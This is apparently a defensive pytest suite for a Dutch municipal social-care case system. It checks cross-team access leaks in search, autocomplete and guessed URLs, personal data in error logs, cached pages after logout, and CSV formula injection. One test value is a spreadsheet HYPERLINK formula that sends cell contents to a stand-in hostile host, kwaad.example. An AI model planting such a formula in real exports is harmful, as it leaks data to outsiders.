"""Holes that other systems of this kind were found to have, each tried here on the real doors.

One class per failure. Every test first shows that the owner does get there, so that it fails when the wall is gone and
also when the scene is empty.
"""

import csv
import io
import logging
import re
from datetime import date
from uuid import uuid4

import pytest
from django.apps import apps
from django.db import connection
from django.db.models import IntegerField
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from playwright.sync_api import expect

from keukentafel.brieven.tests import hulp as brieven
from keukentafel.dossier import handelingen as dossier
from keukentafel.inwoner.handelingen import (
    NieuwLid,
    bestaan_afschermen,
    huishouden_samenstellen,
    inwoner_registreren,
)
from keukentafel.inwoner.models import Relatie
from keukentafel.inwoner.regels.gegevens import Persoonsgegevens
from keukentafel.kern import logs, werkblad
from keukentafel.kern.actor import transactie
from keukentafel.kern.web import middleware
from keukentafel.plan.handelingen import dossier_openen_met_regie
from keukentafel.plan.models import Regie
from keukentafel.poort.matrix import Rol
from keukentafel.privacy.handelingen.datalek import datalek_melden
from keukentafel.toegang import handelingen as toegang
from keukentafel.toegang.models import Melding
from tests import bestanden as b
from tests import personages as p
from tests.inloggen import log_in, log_in_browser
from tests.keuzelijsten import zet_keuzelijsten
from tests.moeilijk.wereld import doe

pytestmark = pytest.mark.django_db
WOORD = "bordeauxrood"
HTMX = {"HX-Request": "true"}


class Buurt:
    """Fatma and her dossier are of team Oost; Piet and his of team Zuid. Everything hers carries one rare word."""

    def __init__(self) -> None:
        self.wijk = p.maak_wijk()
        zet_keuzelijsten("documentsoort", "bron")
        w = self.wijk
        with transactie(p.SYSTEEM):
            self.ada = p.maak_medewerker("Ada", Rol.AANDACHTSFUNCTIONARIS, None)
            self.tessa = p.maak_medewerker("Tessa", Rol.WIJKCOACH, w.zuid)
            self.willem = p.maak_medewerker("Willem", Rol.WMO_CONSULENT, w.oost)
        self.fatma, self.gezin, self.dossier = self._huis(w.samira, "Fatma", f"Alençon-{WOORD}")
        self.piet, self.eigen_gezin, self.eigen = self._huis(w.zoe, "Piet", "Zuidhof")
        hier = {"dossier_id": self.dossier.pk}
        doe(dossier.journaalregel_schrijven, w.samira, tekst=f"Over de {WOORD} bank", wet="jeugd", **hier)
        doe(dossier.verslag_beginnen, w.samira, tekst=f"Zij kocht {WOORD} verf", **hier)
        self.document = doe(dossier.document_toevoegen, w.samira, naam=f"{WOORD}.pdf", inhoud=b.PDF, **hier)
        self.melding = doe(toegang.melding_maken, w.samira, hulpvraag=WOORD, inwoner_id=self.fatma.pk)

    def _huis(self, wie, roepnaam, naam):
        persoon = Persoonsgegevens(roepnaam=roepnaam, geslachtsnaam=naam, geboortedatum=date(1984, 3, 7))
        inwoner = doe(inwoner_registreren, wie, persoon=persoon, adres=None, toch_nieuw=True)
        gezin = doe(huishouden_samenstellen, wie, leden=[NieuwLid(inwoner.pk)])
        return inwoner, gezin, doe(dossier_openen_met_regie, wie, huishouden_id=gezin.pk)

    def als(self, naam):
        return log_in(Client(), getattr(self, naam, None) or getattr(self.wijk, naam))


@pytest.fixture
def buurt():
    return Buurt()


def rijen(model, **velden):
    with transactie(p.SYSTEEM):
        return list(model.objects.filter(**velden))


class TestZoekenZonderFilter:
    """A search that runs past the rule of reading gives what its page would refuse."""

    DEUREN = {"/zoeken/tekst/": WOORD, "/zoeken/dossiers/": "Alençon"}

    @pytest.mark.parametrize("deur", DEUREN)
    def test_een_ander_team_vindt_niets(self, buurt, deur):
        adres = f"/dossier/{buurt.dossier.pk}/"
        assert adres in buurt.als("samira").get(deur, {"q": self.DEUREN[deur]}).text
        pagina = buurt.als("zoe").get(deur, {"q": self.DEUREN[deur]}).text
        assert adres not in pagina
        assert "Fatma" not in pagina

    def test_wie_een_andere_wet_uitvoert_vindt_de_regel_niet(self, buurt):
        vraag = {"q": f"{WOORD} bank"}
        assert "Over de" in buurt.als("samira").get("/zoeken/tekst/", vraag).text
        assert "Over de" not in buurt.als("willem").get("/zoeken/tekst/", vraag).text

    def test_wie_mensen_zoekt_ziet_van_een_ander_team_geen_dossier(self, buurt):
        adres = f"/dossier/{buurt.dossier.pk}/"
        for methode, pad in (("get", "/zoeken/"), ("post", "/zoeken/suggesties/")):
            assert adres in getattr(buurt.als("samira"), methode)(pad, {"q": "Fatma Alençon"}).text
            assert adres not in getattr(buurt.als("zoe"), methode)(pad, {"q": "Fatma Alençon"}).text


class TestAanvullen:
    """A list while typing tells of somebody whose page does not exist for the one who types."""

    DEUREN = ("/zoeken/suggesties/", "/inwoner/kiezen/?nieuw=1", "/contact/wie/", "/balie/wie/")

    @pytest.mark.parametrize("deur", DEUREN)
    def test_wie_verborgen_is_staat_in_geen_lijst(self, buurt, deur):
        def ziet(naam):
            # Spelled otherwise, because a list repeats what was typed.
            return "Fatma" in buurt.als(naam).post(deur, {"q": "Fatme Alencon"}, headers=HTMX).text

        assert (ziet("samira"), ziet("tom")) == (True, True)
        doe(bestaan_afschermen, buurt.ada, inwoner_id=buurt.fatma.pk, afgeschermd=True)
        assert (ziet("samira"), ziet("tom"), ziet("zoe"), ziet("frans")) == (True, False, False, False)


class TestUitgeklapteRelaties:
    """A page shows what hangs on it; each of those has a wall of its own."""

    def test_een_verborgen_familielid_staat_niet_op_de_kaart_van_een_ander(self, buurt):
        zus, _, _ = buurt._huis(buurt.tessa, "Quirine", "Verkade")
        with transactie(p.SYSTEEM):
            plek = {"team": buurt.wijk.zuid, "gemaakt_door": p.SYSTEEM.kenmerk, "soort": "broer_zus"}
            Relatie.objects.create(inwoner=buurt.piet, naar=zus, **plek)
        zoe, adres = buurt.als("zoe"), f"/inwoner/{buurt.piet.pk}/"
        assert "Quirine" in zoe.get(adres).text
        doe(bestaan_afschermen, buurt.ada, inwoner_id=zus.pk, afgeschermd=True)
        for pad in (adres, f"/huishouden/{buurt.eigen_gezin.pk}/", f"/dossier/{buurt.eigen.pk}/"):
            assert "Quirine" not in zoe.get(pad).text, pad

    def test_een_stuk_van_een_ander_dossier_opent_niet_onder_het_eigen(self, buurt):
        """The own dossier in the address, the key of another's paper behind it: on every door with two keys."""
        zoe, open_ = buurt.als("zoe"), []
        for patroon in deuren():
            namen = sleutels(patroon)
            if len(namen) < 2 or namen[0] != "dossier_id":
                continue
            for vreemd in vreemde_sleutels(buurt):
                pad = vul(patroon, {"dossier_id": buurt.eigen.pk}, vreemd)
                antwoord = zoe.get(pad)
                if antwoord.status_code < 300 and (WOORD in antwoord.text or str(vreemd) in antwoord.text):
                    open_.append(pad)
        assert open_ == []


def alle_deuren(patronen=None, voor="/"):
    """Every path of ours, as its pattern."""
    for deel in patronen if patronen is not None else get_resolver().url_patterns:
        if isinstance(deel, URLResolver):
            yield from alle_deuren(deel.url_patterns, voor + str(deel.pattern))
        elif isinstance(deel, URLPattern):
            yield f"{voor}{deel.pattern}"


def deuren():
    """Those with a key in it."""
    return [patroon for patroon in alle_deuren() if "<uuid:" in patroon]


def sleutels(patroon):
    return re.findall(r"<uuid:(\w+)>", patroon)


def vul(patroon, bekend, anders):
    pad = re.sub(r"<uuid:(\w+)>", lambda m: str(bekend.get(m[1], anders)), patroon)
    return re.sub(r"<int:\w+>", "1", re.sub(r"<(?:slug|str):\w+>", "x", pad))


def vreemde_sleutels(buurt):
    """One key of every kind of row that team Oost has."""
    namen = ("Document", "Journaalregel", "Gespreksverslag", "Melding", "Brief", "Regie")
    modellen = [m for m in apps.get_models() if m.__name__ in namen]
    with transactie(p.SYSTEEM):
        return [
            m.objects.filter(team=buurt.wijk.oost).values_list("pk", flat=True).first() or uuid4() for m in modellen
        ]


class TestGeradenAdres:
    """Whoever knows or guesses the address of a page or a file has not thereby the right to it."""

    def test_geen_enkele_deur_opent_met_een_sleutel_van_een_ander_team(self, buurt):
        bekend = {"dossier_id": buurt.dossier.pk, "inwoner_id": buurt.fatma.pk, "huishouden_id": buurt.gezin.pk}
        bekend |= {"sleutel": buurt.melding.pk, "document_id": buurt.document.pk, "melding_id": buurt.melding.pk}
        paden = [vul(patroon, bekend, buurt.document.pk) for patroon in deuren()]
        assert len(paden) > 120
        samira, zoe = buurt.als("samira"), buurt.als("zoe")
        # What one sees of a resident of another team is the card without content: the name is known to the whole town.
        paden = [pad for pad in paden if not pad.startswith(("/inwoner/", "/balie/beller/"))]
        eigen = [pad for pad in paden if samira.get(pad).status_code == 200]
        assert len(eigen) >= 25, eigen
        assert [pad for pad in eigen if pad.startswith("/dossier/") and zoe.get(pad).status_code == 200] == []
        assert [pad for pad in eigen if WOORD in zoe.get(pad).text] == []

    def test_een_bestand_gaat_alleen_naar_wie_het_mag_lezen(self, buurt):
        adres = f"/dossier/{buurt.dossier.pk}/documenten/{buurt.document.pk}/bestand/"
        antwoord = buurt.als("samira").get(adres)
        assert (antwoord.status_code, antwoord.content) == (200, b.PDF)
        assert antwoord["Content-Disposition"].startswith("attachment")
        for koptekst in ("frame-ancestors 'none'", "sandbox", "default-src 'none'"):
            assert koptekst in antwoord["Content-Security-Policy"]
        assert antwoord["Cache-Control"] == "no-store"
        assert {buurt.als(wie).get(adres).status_code for wie in ("zoe", "mo", "frans")} <= {403, 404}
        assert Client().get(adres).status_code == 302

    def test_een_brief_gaat_alleen_naar_wie_hem_mag_lezen(self, buurt):
        (brief, *_) = brieven.brief(buurt.wijk.samira, buurt.fatma)
        for soort in ("", "brief.pdf", "brief.txt"):
            assert buurt.als("samira").get(f"/brieven/{brief.pk}/{soort}").status_code == 200
            assert buurt.als("zoe").get(f"/brieven/{brief.pk}/{soort}").status_code in (403, 404)

    def test_een_uitvoer_van_cijfers_gaat_niet_naar_wie_geen_cijfers_mag(self, buurt):
        with transactie(p.SYSTEEM):
            buurt.karel = p.maak_medewerker("Karel", Rol.CONTROLLER, None)
        pad = re.search(r'href="(/cijfers/[\w-]+/)\?', buurt.als("karel").get("/cijfers/").text)[1]
        for soort in ("cijfer.csv", "cijfer.json"):
            assert buurt.als("karel").get(pad + soort).status_code == 200
            assert buurt.als("frans").get(pad + soort).status_code in (403, 404)


class TestInEenKeerVerdelen:
    """A form with many rows, in which somebody types the keys of another team."""

    def test_een_melding_van_een_ander_team_laat_zich_niet_verdelen(self, buurt):
        ander = doe(toegang.melding_maken, buurt.wijk.zoe, hulpvraag="Zuid", inwoner_id=buurt.piet.pk)
        mo, velden = buurt.als("mo"), {"medewerker": str(buurt.wijk.samira.pk), "toch": "1"}
        assert mo.post(f"/team/verdelen/{ander.pk}/toewijzen/", velden).status_code == 404
        assert rijen(Melding, pk=ander.pk)[0].behandelaar_id != buurt.wijk.samira.pk
        assert mo.post(f"/team/verdelen/{buurt.melding.pk}/toewijzen/", velden).status_code in (200, 302)
        assert rijen(Melding, pk=buurt.melding.pk)[0].behandelaar_id == buurt.wijk.samira.pk

    def test_een_dossier_van_een_ander_team_gaat_niet_mee_in_het_herverdelen(self, buurt):
        w = buurt.wijk
        velden = {f"dossier:{buurt.eigen.pk}": str(w.tom.pk), "reden": "ziek"}
        for afwezig in (w.samira, w.zoe):
            assert buurt.als("mo").post(f"/team/herverdelen/{afwezig.pk}/", velden).status_code in (404, 422)
        assert {r.medewerker_id for r in rijen(Regie, dossier_id=buurt.eigen.pk, tot=None)} == {w.zoe.pk}
        velden = {f"dossier:{buurt.dossier.pk}": str(w.tom.pk), "reden": "ziek"}
        assert buurt.als("mo").post(f"/team/herverdelen/{w.samira.pk}/", velden).status_code in (200, 302)
        assert {r.medewerker_id for r in rijen(Regie, dossier_id=buurt.dossier.pk, tot=None)} == {w.tom.pk}

    def test_een_dossier_gaat_niet_naar_iemand_van_een_ander_team(self, buurt):
        velden = {f"dossier:{buurt.dossier.pk}": str(buurt.wijk.zoe.pk), "reden": "ziek"}
        buurt.als("mo").post(f"/team/herverdelen/{buurt.wijk.samira.pk}/", velden)
        assert {r.medewerker_id for r in rijen(Regie, dossier_id=buurt.dossier.pk, tot=None)} == {buurt.wijk.samira.pk}


class TestFoutrapport:
    """An error of ours in the middle of a resident's data: neither the page nor the log may repeat it."""

    BSN = "999990019"

    @staticmethod
    def _gewoon(wie):
        raise ValueError(f"kan niet: {wie}")

    @staticmethod
    def _veld(wie):
        IntegerField(name="team").get_prep_value([wie])

    @staticmethod
    def _databank(wie):
        with connection.cursor() as cursor:
            cursor.execute("SELECT %s::text::date", [wie])

    @staticmethod
    def _oorzaak(wie):
        try:
            int(wie)
        except ValueError as fout:
            raise RuntimeError(f"dossier van {wie} niet te lezen") from fout

    @pytest.mark.parametrize("als_json", [True, False])
    @pytest.mark.parametrize("soort", ["gewoon", "veld", "databank", "oorzaak"])
    def test_een_500_noemt_niemand(self, buurt, monkeypatch, als_json, soort):
        wie = f"{buurt.fatma.roepnaam} {buurt.fatma.geslachtsnaam} {self.BSN}"

        def stuk(*_args, **_velden):
            getattr(self, f"_{soort}")(wie)

        monkeypatch.setattr("keukentafel.inwoner.web.persoon.render", stuk)
        regels = self._luister(monkeypatch, als_json)
        client = Client(raise_request_exception=False)
        log_in(client, buurt.wijk.samira)
        antwoord = client.get(f"/inwoner/{buurt.fatma.pk}/?q=Fatma+{WOORD}")
        assert antwoord.status_code == 500
        assert "Internal Server Error" in regels.getvalue()
        soorten = {"gewoon": "ValueError", "veld": "TypeError", "databank": "DatetimeFormat", "oorzaak": "RuntimeError"}
        assert soorten[soort] in regels.getvalue()
        for tekst in (antwoord.text, regels.getvalue()):
            for geheim in ("Fatma", WOORD, self.BSN):
                assert geheim not in tekst

    def _luister(self, monkeypatch, als_json):
        regels, vorm = io.StringIO(), logs.instellingen(json=als_json)["formatters"]["regel"]
        hand = logging.StreamHandler(regels)
        hand.setFormatter((logs.JsonRegel if als_json else logs.LeesbareRegel)(vorm["format"]))
        monkeypatch.setattr(logging.getLogger("django.request"), "handlers", [hand])
        return regels


class TestFormules:
    """Somebody types a formula in a text field; another opens the list in a spreadsheet, where it would run."""

    FORMULE = '=HYPERLINK("https://kwaad.example/"&A1;"klik")'

    def test_wat_iemand_typt_wordt_in_geen_bestand_een_formule(self, buurt):
        """On the real door: a colleague writes it, the privacy officer opens the file."""
        with transactie(p.SYSTEEM):
            buurt.petra = p.maak_medewerker("Petra", Rol.PRIVACY_OFFICER, None)
        doe(datalek_melden, buurt.wijk.frans, wat=self.FORMULE)
        doe(datalek_melden, buurt.wijk.frans, wat=f"Brief kwijt, {self.FORMULE}")
        tekst = buurt.als("petra").get("/privacy/datalekken/datalekken.csv").content.decode().removeprefix("\ufeff")
        cellen = [cel for rij in csv.reader(io.StringIO(tekst, newline=""), delimiter=";") for cel in rij]
        assert f"'{self.FORMULE}" in cellen
        assert f"Brief kwijt, '{self.FORMULE}" in cellen
        assert [cel for cel in cellen if cel.startswith(("=", "+", "-", "@"))] == []

    def test_elk_bestand_voor_een_rekenblad_gaat_langs_dezelfde_schrijver(self, buurt, monkeypatch):
        """Every door that ends in .csv, opened by somebody with every role: each of its cells passed the writer."""
        with transactie(p.SYSTEEM):
            buurt.alles = p.maak_medewerker("Alles", Rol.PRIVACY_OFFICER, None)
            for rol in (Rol.CONTROLLER, Rol.FUNCTIONEEL_BEHEER, Rol.WIJKCOACH, Rol.WIJKTEAMMANAGER):
                p.Rolvervulling.objects.create(medewerker=buurt.alles, rol=rol, team=buurt.wijk.oost, van=p.BEGIN)
        doe(datalek_melden, buurt.wijk.frans, wat="Een brief kwijt")
        merk = "langs-de-schrijver"
        monkeypatch.setattr(werkblad, "_cel", lambda _waarde, _machine: merk)
        paden = {pad for pad in (vul(patroon, {}, uuid4()) for patroon in alle_deuren()) if pad.endswith(".csv")}
        paden = {pad.replace("/cijfers/x/", "/cijfers/caseload-naar-zwaarte/") for pad in paden}
        client = buurt.als("alles")
        open_ = {pad: client.get(pad) for pad in paden}
        gezien = {pad: a.content.decode() for pad, a in open_.items() if a.status_code == 200}
        assert len(gezien) >= 6, {pad: a.status_code for pad, a in open_.items()}
        for pad, tekst in gezien.items():
            assert set(re.split(r"[;\r\n]+", tekst.removeprefix("\ufeff").strip())) == {merk}, pad


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
class TestTerugknop:
    """After logging out the next person at this screen presses Back: of the dossier nothing is left to see."""

    @pytest.fixture
    def bij_fatma(self, page, live_server, settings):
        settings.ALLOWED_HOSTS = ["*"]
        buurt = Buurt()
        self._kijk(page, live_server.url, buurt)
        return buurt

    def _kijk(self, page, huis, buurt):
        """Her timeline and her dossier: by a whole page, and by htmx, which has a history of its own."""
        log_in_browser(page, huis, buurt.wijk.samira)
        page.goto(f"{huis}/dossier/{buurt.dossier.pk}/tijdlijn/")
        expect(page.locator("main")).to_contain_text(WOORD)
        page.goto(f"{huis}/dossier/{buurt.dossier.pk}/")
        expect(page.locator("body")).to_contain_text("Fatma")
        plek = {"target": "#inhoud", "select": "#inhoud", "swap": "outerHTML"}
        pad = f"/dossier/{buurt.dossier.pk}/documenten/"
        page.evaluate("([pad, plek]) => { htmx.ajax('GET', pad, {...plek, push: pad}) }", [pad, plek])
        page.wait_for_url(f"**{pad}")
        expect(page.locator("#inhoud")).to_contain_text(f"{WOORD}.pdf")

    @pytest.fixture
    def gewone_page(self, browser_type, browser_type_launch_args):
        """As people use it: Playwright's own browser never keeps a page that was left, an ordinary one does."""
        browser = browser_type.launch(**browser_type_launch_args, ignore_default_args=["--disable-back-forward-cache"])
        yield browser.new_page()
        browser.close()

    @pytest.mark.parametrize("bewaart", [False, True], ids=["no-store", "zonder"])
    def test_een_gewone_browser_bewaart_geen_blad_en_zonder_onze_kop_wel(
        self, gewone_page, live_server, settings, monkeypatch, bewaart
    ):
        """The second shows what the header is for, and that the first could fail."""
        settings.ALLOWED_HOSTS = ["*"]
        if bewaart:
            monkeypatch.setitem(middleware.KOPPEN, "Cache-Control", "private, max-age=600")
        self._kijk(gewone_page, live_server.url, Buurt())
        self._uit(gewone_page)
        gelezen = "".join(self._terug(gewone_page, 5))
        assert (WOORD in gelezen) is bewaart

    def _uit(self, page):
        page.locator("form[action='/uitloggen/'] button").evaluate("(knop) => knop.form.submit()")
        page.wait_for_url("**/inloggen/")

    def _terug(self, page, keren):
        for _ in range(keren):
            page.evaluate("history.back()")  # go_back waits for a load, which a page that was kept does not do again
            page.wait_for_timeout(500)
            page.wait_for_load_state("networkidle")
            yield page.content()

    def test_terug_en_vooruit_tonen_niets(self, page, bij_fatma):
        self._uit(page)
        for inhoud in self._terug(page, 5):
            assert "Fatma" not in inhoud
            assert WOORD not in inhoud
        page.go_forward()
        assert "Fatma" not in page.content()

    def test_er_blijft_niets_leesbaars_achter_in_de_browser(self, page, bij_fatma):
        self._uit(page)
        bewaard = page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}])")
        koekjes = str(page.context.cookies())
        for geheim in ("Fatma", WOORD):
            assert geheim not in bewaard
            assert geheim not in koekjes

    def test_een_collega_na_haar_op_dezelfde_computer_ziet_het_ook_niet(self, page, live_server, bij_fatma):
        self._uit(page)
        log_in_browser(page, live_server.url, bij_fatma.wijk.zoe)
        for inhoud in self._terug(page, 7):
            assert WOORD not in inhoud
        page.goto(f"{live_server.url}/dossier/{bij_fatma.dossier.pk}/")
        assert "Hier is niets te vinden" in page.content()
